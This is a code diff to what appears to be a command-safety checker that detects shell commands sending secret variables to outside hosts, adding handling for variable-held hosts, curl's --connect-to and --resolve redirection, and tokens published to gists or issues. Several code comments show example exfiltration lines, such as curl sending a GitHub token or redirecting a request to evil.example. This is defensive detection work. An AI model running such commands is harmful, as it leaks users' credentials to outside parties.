@@ -6,6 +6,7 @@ import { freeFormReadings } from '../../registry/freeForm';
 import { hostServiceId } from './serviceHosts';
 import { argvSecrets, awkSocketSends } from './argvSecretSends';
 import { sshSentVariables } from './sendEnvCarriers';
+import { publishedOnService } from './publishedSecrets';
 export { domainOwner } from './serviceHosts';
 
 // ---------------------------------------------------------------------------------------------
@@ -49,7 +50,9 @@ function destinationsOf(inv: Invocation): Destination[] {
   for (const a of inv.args) {
     // The user-info (`user:password@`) may hold a colon; the host follows its `@`.
     // Any scheme: `mongodb://`, `nats://`, `mqtt://`, `tgram://` name the receiving host as `https://` does.
-    const m = /^['"]?(?:https?|wss?|ftp|telnet|[a-z][a-z0-9+.-]{1,15}):\/\/([^/?#@\s'"]*@)?(\[[^\]]+\]|[^/:?#\s'"]+)/i.exec(a.raw) ?? /^(?:https?|wss?):\/\/([^/?#@\s]*@)?(\[[^\]]+\]|[^/:?#\s]+)/i.exec(a.text);
+    // A host the line set in a variable (`h=evil.example; curl "https://$h"`) is read from the word's value.
+    const known = a.raw.includes('$') && !a.dynamic && !a.text.includes('$') ? /^(?:https?|wss?|ftp):\/\/([^/?#@\s]*@)?(\[[^\]]+\]|[^/:?#\s]+)/i.exec(a.text) : null;
+    const m = known ?? /^['"]?(?:https?|wss?|ftp|telnet|[a-z][a-z0-9+.-]{1,15}):\/\/([^/?#@\s'"]*@)?(\[[^\]]+\]|[^/:?#\s'"]+)/i.exec(a.raw) ?? /^(?:https?|wss?):\/\/([^/?#@\s]*@)?(\[[^\]]+\]|[^/:?#\s]+)/i.exec(a.text);
     if (m) {
       const host = m[2] ?? '';
       const variable = /^\$\{?([A-Za-z_][A-Za-z0-9_]*)/.exec(host)?.[1];
@@ -78,6 +81,15 @@ function destinationsOf(inv: Invocation): Destination[] {
   for (const a of inv.args) {
     const npmKey = /^['"]?\/\/([a-z0-9.-]+\.[a-z]{2,}|localhost|[\d.]+)(?::\d+)?\//i.exec(a.text);
     if (npmKey?.[1]) out.push({ host: npmKey[1].toLowerCase() });
+  }
+  // `curl --connect-to api.stripe.com:443:evil.example:443` / `--resolve api.stripe.com:443:203.0.113.5`: the
+  // request named for one host is delivered to another (curl's manual), which receives what it carries.
+  if (inv.name === 'curl') {
+    for (const o of freeFormReadings(inv.args).valued.options) {
+      const v = o.values[0] ?? '';
+      const to = o.name === '--connect-to' ? v.split(':')[2] : o.name === '--resolve' ? v.split(':').slice(2).join(':').split(',')[0]?.replace(/^\[|\]$/g, '') : undefined;
+      if (to !== undefined && to !== '' && !LOOPBACK.test(to)) out.push({ host: to.toLowerCase() });
+    }
   }
   // ntfy publishes a bare topic to its public server (ntfy.sh) unless given a URL.
   if (out.length === 0 && inv.name === 'ntfy') out.push({ host: 'ntfy.sh' });
@@ -130,8 +142,9 @@ function belongsTo(variable: string, destination: Destination, sender?: string):
   const service = providerIn(variable);
   if (!service) return undefined;
   if (destination.variable !== undefined) {
+    // `curl -d "$GITHUB_TOKEN" "$WEBHOOK_URL"`: an address named for no service is not the token's own.
     const where = providerIn(destination.variable);
-    return where === undefined ? undefined : where.id === service.id;
+    return where === undefined ? (isSecretVariableName(destination.variable) ? false : undefined) : where.id === service.id;
   }
   // By the registered name of the host's domain, a service's users' content never the service's (`serviceHosts.ts`).
   return host !== undefined && hostServiceId(host) === service.id;
@@ -153,6 +166,10 @@ export function checkSentOut(inv: Invocation): Finding[] {
   if (REGISTRY_LOGINS.includes(inv.name) && !positionals(inv.args).includes('login')) return [];
   const variables = [...new Set([...secretVariablesSent(inv, carried?.texts), ...(inv.name === 'curl' ? curlImportedSecrets(inv.args) : [])])];
   if (variables.length === 0) return [];
+  // Published on the token's own service (a gist, an issue): readable by others there (support/publishedSecrets.ts).
+  const published = publishedOnService(inv);
+  const shown = published ? secretVariablesSent(inv, published.texts).find((v) => variables.includes(v)) : undefined;
+  if (published && shown !== undefined) return [{ rule: 'credentials.sent-out', risk: 'credential-dump', severity: 'ask', reason: `${inv.name} puts the secret variable $${shown} into ${published.where}.`, targets: [sentVariable(shown, published.where)] }];
   const destinations: Destination[] = carried ? carried.hosts.map((host) => ({ host })) : destinationsOf(inv);
   const findings: Finding[] = [];
   for (const variable of variables) {
